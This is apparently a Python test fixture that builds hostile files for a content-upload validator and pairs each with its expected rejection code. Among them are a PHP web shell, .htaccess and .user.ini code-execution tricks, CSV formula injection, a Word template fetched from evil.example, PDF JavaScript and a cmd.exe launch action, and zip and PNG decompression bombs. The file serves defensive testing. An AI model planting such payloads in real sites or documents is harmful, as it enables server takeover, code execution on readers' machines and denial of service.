"""Hostile files as data: what stands in a folder beside the texts and must not be published."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from typing import NamedTuple

from tests.kinds.tiny_office import PDF, picture

EXE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 300
TYPES = b'<Types><Override PartName="/word/document.xml"/></Types>'
MACRO_TYPES = b'<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>'
TEMPLATE = b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/m.dotm"/>'


class RefusedFile(NamedTuple):
    """A file and the code by which it must be refused."""

    path: str
    data: bytes
    code: str


def packed(members: Mapping[str, bytes]) -> bytes:
    """A zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(more: Mapping[str, bytes] | None = None, types: bytes = TYPES) -> bytes:
    """A Word document with further parts."""
    return packed({"[Content_Types].xml": types, "word/document.xml": b"<w/>", **(more or {})})


def pdf(objects: bytes) -> bytes:
    """A PDF file with further objects."""
    return PDF.replace(b"trailer", objects + b"\ntrailer")


def packed_objects(objects: bytes) -> bytes:
    """Objects in a packed list, where no search through the file finds them."""
    data = zlib.compress(objects)
    return b"7 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + data + b"\nendstream endobj"


def huge_png(width: int, height: int) -> bytes:
    """A PNG of some hundred bytes that says it is as large as that."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0" * 100)), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        for name, data in parts
    )


_HTML = b"<!doctype html><script>alert(1)</script>"
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'

FILES: Mapping[str, RefusedFile] = {
    name: RefusedFile(f"content/files/{file}", data, code)
    for name, (file, data, code) in {
        "html": ("page.html", _HTML, "U005"),
        "svg": ("drawing.svg", _SVG, "U005"),
        "php": ("shell.php", b"<?php system($_GET[0]);", "U005"),
        "phtml": ("shell.phtml", b"<?php system($_GET[0]);", "U005"),
        "htaccess": (".htaccess", b"AddType application/x-httpd-php .png\n", "U005"),
        "user-ini": (".user.ini", b"auto_prepend_file=x.png\n", "U005"),
        "script": ("x.js", b"alert(1)", "U005"),
        "exe": ("setup.exe", EXE, "U005"),
        "shtml": ("x.shtml", b'<!--#exec cmd="id"-->', "U005"),
        "docm": ("macro.docm", docx(), "U005"),
        "no-extension": ("readme", b"text", "U005"),
        "double-extension": ("x.php.png", picture(), "F201"),
        "exe-as-pdf": ("exe.pdf", EXE, "U006"),
        "html-as-pdf": ("page.pdf", _HTML + PDF, "U006"),
        "html-as-csv": ("page.csv", b"\n " + _HTML, "U006"),
        "svg-as-png": ("drawing.png", _SVG, "U006"),
        "png-as-jpg": ("png.jpg", picture(), "U006"),
        "docx-as-xlsx": ("word.xlsx", docx(), "U006"),
        "exe-before-docx": ("exe.docx", EXE + docx(), "U006"),
        "zip-broken": ("broken.docx", docx()[:-30], "U006"),
        "pdf-half": ("half.pdf", PDF[:40], "U006"),
        "csv-utf-16": ("wide.csv", "ก,ข\n".encode("utf-16"), "U006"),
        "csv-thai": ("old.csv", "ชื่อ,สกุล\n".encode("cp874"), "F001"),
        "csv-nul": ("nul.csv", b"a,b\x00\n", "U006"),
        "csv-formula": ("formula.csv", b"a,b\n1,=cmd|'/c calc'!A0\n", "U009"),
        "csv-formula-plus": ("plus.csv", b'a,"+HYPERLINK(""http://evil.example"")"\n', "U009"),
        "macro": ("macro.docx", docx({"word/vbaProject.bin": b"x"}), "U009"),
        "macro-renamed": ("renamed.docx", docx({"word/x.bin": b"x"}, MACRO_TYPES), "U009"),
        "macro-fetched": ("fetched.docx", docx({"word/_rels/settings.xml.rels": TEMPLATE}), "U009"),
        "active-x": ("activex.docx", docx({"word/activeX/activeX1.bin": b"x"}), "U009"),
        "pdf-script": ("script.pdf", pdf(b"3 0 obj<</S/JavaScript/JS(app.alert(1))>>"), "U009"),
        "pdf-script-line": ("line.pdf", pdf(b"3 0 obj<</JS\n4 0 R>>"), "U009"),
        "pdf-name-codes": ("codes.pdf", pdf(b"3 0 obj<</S/J#61vaScript/J#53(x)>>"), "U009"),
        "pdf-launch": ("launch.pdf", pdf(b"3 0 obj<</S/Launch/F(cmd.exe)>>"), "U009"),
        "pdf-packed": ("packed.pdf", pdf(packed_objects(b"<</S/JavaScript/JS(x)>>")), "U009"),
        "xlsx-bomb": (
            "bomb.xlsx",
            packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"\0" * 30_000_000}),
            "U009",
        ),
        "xlsx-many": (
            "many.xlsx",
            packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<x/>",
                    **{f"xl/{n}": b"" for n in range(6_000)}}),
            "U009",
        ),
        "png-bomb": ("bomb.png", huge_png(60_000, 60_000), "U009"),
        "png-large": ("large.png", huge_png(10_000, 10_000), "U009"),
        "empty": ("empty.pdf", b"", "U007"),
        "fifty-megabytes": ("large.pdf", PDF + b"\n" * 50_000_000, "U008"),
        "twin": ("Twin.pdf", PDF, "F201"),
        "reserved": ("con.pdf", PDF, "F201"),
    }.items()
}  # fmt: skip

ACCEPTED: Mapping[str, bytes] = {
    "content/files/words-about-scripts.pdf": pdf(b"3 0 obj<</Title(About JavaScript and JS)>>"),
    "content/files/letters-by-chance.pdf": pdf(
        b"4 0 obj<<>>stream\n\x01/JS (\x02\nendstream endobj"
    ),
    "content/files/negative.csv": "ก,ข\n-5,+66 2 000 0000\n- รายการ,-\nx@ok.example,@ครู\n".encode(),
    "content/files/plain.docx": docx(),
}
"""What looks alike and must be published."""
